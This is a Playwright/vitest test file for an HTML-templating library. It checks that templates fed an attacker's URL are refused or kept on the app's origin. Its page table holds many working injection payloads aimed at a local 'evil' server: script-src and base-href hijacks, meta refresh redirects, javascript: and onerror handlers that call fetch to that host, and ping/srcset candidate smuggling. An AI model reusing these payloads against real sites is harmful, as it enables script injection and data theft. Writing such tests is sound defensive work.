/**
 * Resource URLs and root paths in Chromium, against two servers on two loopback ports (two origins):
 * the app, whose pages put a user's value in `html` templates, and an attacker's, which counts every
 * request it gets. Before the fix, `<script src="${value}">` ran the attacker's script in the app's
 * page, `<base href>` moved the page's own relative script there, a frame and a stylesheet loaded from
 * there, and `<a href="/${'/host:port/x'}">` led to the attacker's host; now each template is refused
 * (TypeError) or the link stays a path on the app's origin, and the attacker's server gets no request.
 * The same through an attribute fragment (`<script ${html` src="${value}"`}>`), an interpolated name in
 * a `<meta>`, and a `javascript:` URL the template writes (its link, clicked, fetched from there).
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { html, trustedUrl, type SafeHtml } from '../../src/index.js';
import { freePort } from '../helpers/ports.js';
import { waitUntil } from '../helpers/wait-until.js';
import { browserTestsEnabled, CHROMIUM_ARGS, CHROMIUM_PATH, launchChromium } from './browser.js';

/** Pages of the app, by path: each renders the attacker's URL (`evil`) into a template. */
const PAGES: Record<string, (evil: string) => SafeHtml> = {
  '/script': (evil) => html`<script src="${`${evil}/x.js`}"></script>`,
  '/base': (evil) => html`<base href="${`${evil}/`}"><script src="app.js"></script>`,
  '/iframe': (evil) => html`<iframe src="${`${evil}/frame`}"></iframe>`,
  '/stylesheet': (evil) => html`<link rel="stylesheet" href="${`${evil}/x.css`}">`,
  '/cdn-host': (evil) => html`<script src="http://${evil.slice('http://'.length)}/x.js"></script>`,
  '/refresh': (evil) => html`<meta http-equiv="refresh" content="0;url=${`${evil}/refreshed`}">`,
  // A fragment put where an attribute name goes was read without its tag: its src was an ordinary URL.
  '/fragment-script': (evil) => html`<script ${html` src="${`${evil}/x.js`}"`}></script>`,
  '/fragment-base': (evil) => html`<base ${html` href="${`${evil}/`}"`}><script src="app.js"></script>`,
  '/fragment-iframe': (evil) => html`<iframe ${html` src="${`${evil}/frame`}"`}></iframe>`,
  '/fragment-stylesheet': (evil) => html`<link rel="stylesheet" ${html` href="${`${evil}/x.css`}"`}>`,
  '/fragment-refresh': (evil) => html`<meta http-equiv="refresh" ${html` content="${`0;url=${evil}/refreshed`}"`}>`,
  // An interpolated attribute name in a <meta>: the refresh was not known.
  '/name-refresh': (evil) => html`<meta http-equiv="refresh" ${'content'}="${`0;url=${evil}/refreshed`}">`,
  '/name-http-equiv': (evil) => html`<meta ${'http-equiv'}="refresh" content="0;url=${`${evil}/refreshed`}">`,
  // A javascript: URL in the template's text: the browser decodes the value's &#39; back before running it.
  '/javascript-url': (evil) => html`<a id="js" href="javascript:void('${`');fetch('${evil}/ran');//`}')">a</a>`,
  // The author's own script, as the template writes it, and as a trustedUrl: loaded from the app.
  // A fragment that ends inside a tag, put where text goes: the outer template read src="${…}" as text.
  '/split-script': (evil) => html`${html`<script `}src="${`${evil}/x.js`}"></script>`,
  // &SOL; is not a reference (names are case-sensitive): Chromium keeps it in the host, cdn.example.com&sol;.evil.test.
  '/entity-case': (evil) => html`<script src="http://cdn.example.com&SOL;${`.evil.test:${new URL(evil).port}/x.js`}"></script>`,
  // An attribute fragment that ends its tag: the template's src went to the <script> it opened.
  '/fragment-new-tag': (evil) => html`<img ${html` alt="x"><script `} src="${`${evil}/x.js`}">`,
  // Open Graph tags from fragments: a content that reads as a refresh does nothing without an http-equiv.
  '/og-meta': (evil) => html`<meta ${html` property="og:url" content="${`0;url=${evil}/refreshed`}"`}><meta name="x" ${html` content="${`0;url=${evil}/refreshed`}"`}>`,
  // Plain text in a data: URL: a download link.
  '/data-text': (evil) => {
    const text = `<script>fetch('${evil}/ran')</script>`;
    return html`<a id="download" download="notes.txt" href="data:text/plain;charset=utf-8,${text}">d</a><a id="navigate" href="data:text/plain,${text}">n</a>`;
  },
  '/own': () => html`<script src="/static/${'app.js'}"></script><script src="${trustedUrl('/app.js')}"></script>`,
  // A value after a / that starts a URL of a list (ping's, srcset's, imagesrcset's candidates): //host.
  '/ping': (evil) => html`<a id="ping" href="/landed" ping="/${`/${hostOf(evil)}/beacon`}">p</a>`,
  '/ping-second': (evil) => html`<a id="ping" href="/landed" ping="/pinged /${`/${hostOf(evil)}/beacon`}">p</a>`,
  '/srcset': (evil) => html`<img srcset="/${`/${hostOf(evil)}/one.png`} 1x"><img srcset="/two.png 2x, /${`\\${hostOf(evil)}/two.png`} 1x">`,
  '/imagesrcset': (evil) => html`<link rel="preload" as="image" imagesrcset="/${`/${hostOf(evil)}/three.png`} 1x">`,
  // A value after a / alone in a resource URL: it cannot make //host, so the origin is the page's.
  '/root-script': (evil) => html`<script src="/${`/${hostOf(evil)}/x.js`}"></script><script src="/${`\\${hostOf(evil)}/y.js`}"></script>`,
  // A fragment right after an attribute name gives that name its value: the browser reads href, onerror, http-equiv.
  '/name-href': (evil) => html`<a id="js" hr${html`ef="${`javascript:fetch('${evil}/ran')`}"`}>a</a>`,
  '/name-onerror': (evil) => html`<img src="/missing.png" on${html`error="${`fetch('${evil}/ran')`}"`}>`,
  '/name-equals-refresh': (evil) => html`<meta name="x" http-equiv ${html` ="refresh"`} content="0;url=${`${evil}/refreshed`}">`,
  '/name-array': (evil) => html`<a id="js" ${[html` hr`, html`ef="${`javascript:fetch('${evil}/ran')`}"`]}>a</a>`,
  // A fragment without values that ends the tag: the template's src went to a <script> it read as attributes of the <p>.
  '/bare-fragment-new-tag': (evil) => html`<p ${html` hidden>`}<script src="${`${evil}/x.js`}"></script>`,
  // One that ends in an unquoted value: the template's next attribute, and the value's spaces, went on in it.
  '/bare-fragment-unquoted': (evil) => html`<a id="hover" ${html` title=x`}href="${`a onmouseover=fetch('${evil}/ran')//`}">h</a>`,
  // A value inside a list's candidate that holds the list's separators: a candidate of its own, from the other origin.
  '/ping-space': (evil) => html`<a id="ping" href="/landed" ping="/${`a //${hostOf(evil)}/beacon`}">p</a>`,
  '/srcset-space': (evil) => html`<img srcset="/${`x.png 0.5x, //${hostOf(evil)}/four.png 1x`}">`,
  '/srcset-comma': (evil) => html`<img srcset="/five.png 2${`x,//${hostOf(evil)}/five.png`}">`,
  '/link': (evil) => html`<a id="slash" href="/${`/${evil.slice('http://'.length)}/x`}">a</a><a id="backslash" href="/${`\\${evil.slice('http://'.length)}/x`}">b</a><a id="tab" href="/${`\t/${evil.slice('http://'.length)}/x`}">c</a>`,
};

const hostOf = (origin: string): string => new URL(origin).host;

/** A server on a free loopback port answering with `answer`; `requests` lists the paths it got. */
async function listen(answer: (path: string) => { type: string; body: string }): Promise<{ server: Server; origin: string; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    const { type, body } = answer(request.url ?? '/');
    response.writeHead(200, { 'content-type': type, 'cache-control': 'no-store' }).end(body);
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${port}`, requests };
}

const bodyOf = (path: string): { type: string; body: string } =>
  path.endsWith('.js') ? { type: 'text/javascript', body: 'window.__ran = (window.__ran || 0) + 1;' } : path.endsWith('.css') ? { type: 'text/css', body: 'body { color: red }' } : { type: 'text/html', body: '<p>page</p>' };

describe.runIf(browserTestsEnabled('resource URLs in Chromium'))('resource URLs in Chromium', () => {
  let browser: Browser;
  let app: Awaited<ReturnType<typeof listen>>;
  let evil: Awaited<ReturnType<typeof listen>>;
  let context: BrowserContext;
  let page: Page;
  beforeAll(async () => {
    evil = await listen(bodyOf);
    app = await listen((path) => {
      const render = PAGES[path];
      if (render === undefined) return bodyOf(path);
      try {
        return { type: 'text/html', body: `<!doctype html><html><head>${render(evil.origin).value}</head><body><p id="rendered">rendered</p></body></html>` };
      } catch (error) {
        return { type: 'text/html', body: `<!doctype html><p id="refused">${(error as Error).name}</p>` };
      }
    });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    app?.server.close();
    evil?.server.close();
  });
  beforeEach(async () => {
    evil.requests.length = 0;
    context = await browser.newContext();
    page = await context.newPage();
  });
  afterEach(async () => {
    await context.close();
  });

  it.each([
    '/script', '/base', '/iframe', '/stylesheet', '/cdn-host', '/refresh',
    '/fragment-script', '/fragment-base', '/fragment-iframe', '/fragment-stylesheet', '/fragment-refresh', '/name-refresh', '/name-http-equiv', '/javascript-url', '/split-script', '/fragment-new-tag',
    '/name-href', '/name-onerror', '/name-equals-refresh', '/name-array', '/bare-fragment-new-tag', '/bare-fragment-unquoted',
  ])('%s: the template is refused; the other origin gets no request', async (path) => {
    // goto waits for the load event: after the scripts, the frame and the stylesheet.
    await page.goto(`${app.origin}${path}`);
    // The javascript: link, where it renders, is followed (it runs a fetch to the other origin).
    if ((await page.locator('#js').count()) > 0) await page.click('#js');
    if ((await page.locator('#hover').count()) > 0) await page.hover('#hover');
    expect(evil.requests).toEqual([]);
    expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
    expect(await page.locator('#refused').allTextContents()).toEqual(['TypeError']);
  });

  it('a reference name in the wrong case does not end the host: refused (Chromium, resolving *.evil.test to the attacker, loaded its script)', async () => {
    // A browser of its own, whose resolver sends every *.evil.test name to the attacker's loopback server.
    const resolving = await chromium.launch({ executablePath: CHROMIUM_PATH, headless: true, args: [...CHROMIUM_ARGS, '--host-resolver-rules=MAP *.evil.test 127.0.0.1'] });
    try {
      const tab = await resolving.newPage();
      await tab.goto(`${app.origin}/entity-case`);
      expect(evil.requests).toEqual([]);
      expect(await tab.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
      expect(await tab.locator('#refused').allTextContents()).toEqual(['TypeError']);
    } finally {
      await resolving.close();
    }
  });

  it("a value after a / alone cannot make //host: the link stays a path on the page's origin, and leads there; the author's own scripts load", async () => {
    await page.goto(`${app.origin}/own`);
    expect(await page.locator('#rendered').count()).toBe(1);
    expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBe(2);
    expect(app.requests).toEqual(expect.arrayContaining(['/static/app.js', '/app.js']));
    await page.goto(`${app.origin}/link`);
    const appHost = new URL(app.origin).host;
    for (const id of ['slash', 'backslash', 'tab']) {
      expect(await page.locator(`#${id}`).evaluate((a) => new URL((a as HTMLAnchorElement).href).host), id).toBe(appHost);
    }
    await Promise.all([page.waitForURL((url) => url.pathname !== '/link'), page.click('#slash')]);
    expect(new URL(page.url()).host).toBe(appHost);
    expect(evil.requests).toEqual([]);
  });

  it('Open Graph <meta> tags from fragments: rendered, parsed with no http-equiv, so nothing refreshes', async () => {
    await page.goto(`${app.origin}/og-meta`);
    expect(await page.locator('#rendered').count()).toBe(1);
    expect(await page.evaluate(() => [...document.querySelectorAll('meta')].map((meta) => [...meta.attributes].map((a) => a.name).join(' ')))).toEqual(['property content', 'name content']);
    expect(evil.requests).toEqual([]);
  });

  it('a data:text/plain link: rendered; it downloads the text, and Chromium does not navigate the page to it', async () => {
    await page.goto(`${app.origin}/data-text`);
    expect(await page.locator('#rendered').count()).toBe(1);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#download')]);
    const saved = await download.path();
    expect(readFileSync(saved, 'utf8')).toBe(`<script>fetch('${evil.origin}/ran')</script>`);
    const [refusal] = await Promise.all([page.waitForEvent('console', (message) => message.text().includes('Not allowed to navigate top frame to data URL')), page.click('#navigate')]);
    expect(refusal.type()).toBe('error');
    expect(new URL(page.url()).pathname).toBe('/data-text');
    expect(evil.requests).toEqual([]);
  });

  describe('a value after a / that starts a URL of a list, or a resource URL', () => {
    /** The paths either server got that end with `suffix`, once one has. */
    const requested = (suffix: string) =>
      waitUntil(`a request for …${suffix}`, () => {
        const all = [...app.requests, ...evil.requests.map((path) => `evil:${path}`)].filter((path) => path.endsWith(suffix));
        return all.length > 0 && all;
      });

    it("ping: the ping goes to the page's origin (Chromium sent it to the other origin: //host)", async () => {
      for (const path of ['/ping', '/ping-second']) {
        app.requests.length = 0;
        await page.goto(`${app.origin}${path}`);
        await Promise.all([page.waitForURL((url) => url.pathname === '/landed'), page.click('#ping')]);
        expect(await requested('/beacon'), path).toEqual([`/%2F${hostOf(evil.origin)}/beacon`]);
      }
      expect(evil.requests).toEqual([]);
    });

    it("srcset and imagesrcset: each candidate loads from the page's origin", async () => {
      await page.goto(`${app.origin}/srcset`);
      expect(await requested('/one.png')).toEqual([`/%2F${hostOf(evil.origin)}/one.png`]);
      expect(await requested('/two.png')).toEqual([`/%5C${hostOf(evil.origin)}/two.png`]);
      await page.goto(`${app.origin}/imagesrcset`);
      expect(await requested('/three.png')).toEqual([`/%2F${hostOf(evil.origin)}/three.png`]);
      expect(evil.requests).toEqual([]);
    });

    it("a value inside a ping or srcset candidate with spaces or commas: one URL on the page's origin (Chromium pinged and loaded the candidate it added, from the other origin)", async () => {
      app.requests.length = 0;
      await page.goto(`${app.origin}/ping-space`);
      await Promise.all([page.waitForURL((url) => url.pathname === '/landed'), page.click('#ping')]);
      expect(await requested('/beacon')).toEqual([`/a%20//${hostOf(evil.origin)}/beacon`]);
      // goto waits for the load event: after the images.
      await page.goto(`${app.origin}/srcset-space`);
      expect(await requested('four.png%201x')).toEqual([`/x.png%200.5x%2C%20//${hostOf(evil.origin)}/four.png%201x`]);
      await page.goto(`${app.origin}/srcset-comma`);
      expect(await page.locator('img').evaluate((img) => (img as HTMLImageElement).currentSrc)).toBe('');
      expect(evil.requests).toEqual([]);
    });

    it('<script src="/${…}">: rendered, and the scripts load from the page\'s origin', async () => {
      await page.goto(`${app.origin}/root-script`);
      expect(await page.locator('#rendered').count()).toBe(1);
      expect(app.requests).toEqual(expect.arrayContaining([`/%2F${hostOf(evil.origin)}/x.js`, `/%5C${hostOf(evil.origin)}/y.js`]));
      expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBe(2);
      expect(evil.requests).toEqual([]);
    });
  });
});
